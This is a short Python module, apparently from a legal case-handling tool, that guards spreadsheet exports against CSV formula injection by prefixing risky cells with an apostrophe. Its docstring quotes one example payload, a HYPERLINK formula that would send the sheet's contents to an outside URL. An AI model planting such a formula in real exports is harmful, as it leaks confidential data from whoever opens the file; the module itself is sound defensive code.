"""Cells that stay text: nothing a case says becomes a spreadsheet formula (OWASP, "CSV
injection").

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, after a
tab or carriage return, whatever follows) as a formula: a case summary written as
``=HYPERLINK("http://…?"&A1, "…")`` would send the sheet's contents away when counsel opens
the file. In CSV such a cell gets OWASP's leading apostrophe; in a workbook it is stored as a
string with Excel's quote prefix, so even editing the cell keeps it text.
"""

from __future__ import annotations

from typing import Any

from ..intake.formulas import FORMULA_START, starts_like_formula

__all__ = ["FORMULA_START", "csv_cell", "starts_like_formula"]


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: text that a spreadsheet would run gets a leading apostrophe;
    numbers, booleans and other text are left as they are."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value
